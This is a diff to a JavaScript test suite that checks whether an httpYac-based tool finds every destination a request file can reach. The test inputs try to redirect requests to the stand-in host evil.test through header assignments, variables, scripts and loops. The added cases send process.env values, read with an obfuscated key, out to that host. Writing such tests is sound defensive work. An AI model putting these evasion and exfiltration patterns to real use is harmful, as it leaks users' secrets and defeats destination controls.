@@ -51,6 +51,8 @@ describe('httpYac sends requests only to the destinations that are found', () =>
 		'a request that is sent first': `# @name first\n${request('https://first.test/')}\n###\n# @ref first\n${request('https://api.test/x')}`,
 		'an assignment in a header': request('https://api.test/x', 'X: {{request.url = "https://evil.test"}}'),
 		'an assignment in a variable': `@x = {{request.url = "https://evil.test"}}\n${request('https://api.test/x')}`,
+		'code that reads the environment': `${request('https://api.test/x')}\n###\nGET https://evil.test/{{process.env["CONN" + "ECT"]}}\n`,
+		'a name without a space': `${request('https://api.test/x')}\n###\nGET https://evil.test/${formatVariableReference('SU-631-646-036').replace(' ', '')}\n`,
 		'a script': `{{\nrequest.url = "https://evil.test";\n}}\n${request('https://api.test/x')}`,
 		'a script below the request': request('https://api.test/x', '', '{{@request', 'request.url = "https://evil.test";', '}}'),
 		'a loop': `@host = api.test\n\n###\n# @loop for host of ["evil.test"]\n${request('https://{{host}}/x')}`,
